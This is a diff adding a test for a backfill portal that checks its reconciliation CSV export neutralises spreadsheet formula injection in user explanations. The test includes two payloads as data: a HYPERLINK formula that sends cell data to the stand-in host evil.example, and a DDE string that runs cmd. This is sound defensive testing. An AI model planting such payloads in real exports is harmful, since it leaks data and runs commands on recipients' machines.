@@ -172,6 +172,24 @@ def test_reconciliation_exports_the_table_and_the_manifest_as_csv(personas, read
         assert ["intervals_planned", "2"] in lines and ["versions_published", "2"] in lines
 
 
+def test_reconciliation_csv_writes_a_formula_in_an_explanation_as_text(personas, ready, api):
+    request = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
+    malicious = {"2022-10-01": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\")",
+                 "2022-10-02": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    for key, text in malicious.items():
+        response = api("alice").post(f"/api/requests/{request.pk}/intervals/{key}/explain/", {"explanation": text},
+                                     format="json")
+        assert response.status_code == 200
+    lines = list(csv.reader(io.StringIO(api("audrey").get(f"/api/requests/{request.pk}/reconciliation.csv")
+                                        .content.decode())))
+    header = lines[0]
+    table = {line[header.index("partition_key")]: dict(zip(header, line)) for line in lines[1:3]}
+    for key, text in malicious.items():
+        assert table[key]["explanation"] == "'" + text
+        assert table[key]["explained_by"] == "alice"
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for line in lines for cell in line)
+
+
 def test_reconcile_task_runs_twice_safely_and_only_for_a_reconciling_request(personas, ready):
     from backfill_portal.backfills.tasks import reconcile_request
 
